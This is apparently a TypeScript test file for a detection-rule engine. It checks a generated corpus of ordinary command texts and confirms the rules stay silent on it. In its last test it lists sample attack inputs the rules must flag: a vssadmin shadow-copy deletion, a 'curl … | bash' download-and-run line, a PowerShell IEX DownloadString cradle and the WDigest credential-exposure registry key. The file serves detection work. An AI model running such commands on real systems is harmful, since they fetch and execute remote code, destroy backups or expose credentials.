import { expect, test } from "bun:test"
import { readFileSync } from "node:fs"
import type { Event } from "#shared/ecs/event.ts"
import { loadRules } from "#shared/sigma/rules.ts"
import { canonical } from "./features.ts"
import { ordinaryTexts } from "./ordinary-corpus.ts"

const texts = ordinaryTexts()
const plain = texts.map(({ text }) => canonical(text))

test("every kind has ordinary texts, and a calibration of commands is more than a guess", () => {
  const count = (kind: string) => texts.filter((one) => one.kind === kind).length
  expect(count("process_creation")).toBeGreaterThan(6000)
  for (const kind of ["powershell", "proxy", "registry"]) expect(count(kind)).toBeGreaterThan(1000)
})

test("no two of them are the same once they are plain", () => {
  const kinds = new Set(texts.map(({ kind }, i) => `${kind} ${plain[i]}`))
  expect(kinds.size).toBe(texts.length)
})

test("the same seed gives the same texts, another one others", () => {
  expect(ordinaryTexts()).toEqual(texts)
  const known = new Set(plain)
  const others = ordinaryTexts(2).filter(({ text }) => !known.has(canonical(text)))
  expect(others.length).toBeGreaterThan(texts.length / 4)
})

test("none stands among the commands that are held out", () => {
  const heldOut = readFileSync(new URL("./ordinary.txt", import.meta.url), "utf8").split("\n")
  const known = new Set(plain)
  expect(heldOut.filter((text) => text.trim() && known.has(canonical(text)))).toEqual([])
})

test("each part of a form is filled", () => {
  expect(texts.filter(({ text }) => /[«»]/.test(text))).toEqual([])
})

const channel = (name: string, code: string): Event => ({
  "event.module": "windows",
  "event.code": code,
  "event.provider": `Microsoft-Windows-${name}`,
  "event.dataset": `windows.${name.toLowerCase()}_operational`,
  "vendor.winlog.channel": `Microsoft-Windows-${name}/Operational`,
})

/** A text as events that rules look at, of Windows and of Linux. */
function eventsOf({ text, kind }: (typeof texts)[number]): Event[] {
  if (kind === "powershell")
    return [{ ...channel("PowerShell", "4104"), "vendor.winlog.event_data.ScriptBlockText": text }]
  if (kind === "registry")
    return [
      {
        ...channel("Sysmon", "13"),
        "vendor.winlog.event_data.TargetObject": text,
        "vendor.winlog.event_data.Details": text,
      },
    ]
  const [, quoted, bare = ""] = /^(?:"([^"]+)"|(\S+))/.exec(text) ?? []
  const program = (quoted ?? bare)
    .split(/[\\/]/)
    .at(-1)
    ?.replace(/\.exe$/i, "")
  return [
    {
      ...{ ...channel("Sysmon", "1"), "vendor.winlog.event_data.CommandLine": text },
      "vendor.winlog.event_data.Image": `C:\\Windows\\System32\\${program}.exe`,
    },
    {
      ...{ "event.dataset": "system.auth", "event.module": "system", "host.os.type": "linux" },
      ...{ "event.category": ["process"], "event.type": ["start"], "process.command_line": text },
    },
  ]
}

test("no rule of ours fires on an ordinary text", () => {
  const rules = loadRules(["rules/detect"])
  const firedOn = (of: typeof texts) => {
    const fired = new Set<string>()
    for (const one of of)
      for (const event of eventsOf(one))
        rules.match(event, ({ title }) => fired.add(`${title}: ${one.text}`))
    return [...fired]
  }
  const attacks: typeof texts = [
    { kind: "process_creation", text: "vssadmin.exe delete shadows /all" },
    { kind: "process_creation", text: "curl http://192.0.2.1/a | bash" },
    { kind: "powershell", text: "IEX (New-Object Net.WebClient).DownloadString('http://a')" },
    {
      kind: "registry",
      text: "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
    },
  ]
  expect(firedOn(attacks).length).toBeGreaterThanOrEqual(3)
  expect(firedOn(texts.filter(({ kind }) => kind !== "proxy"))).toEqual([])
})
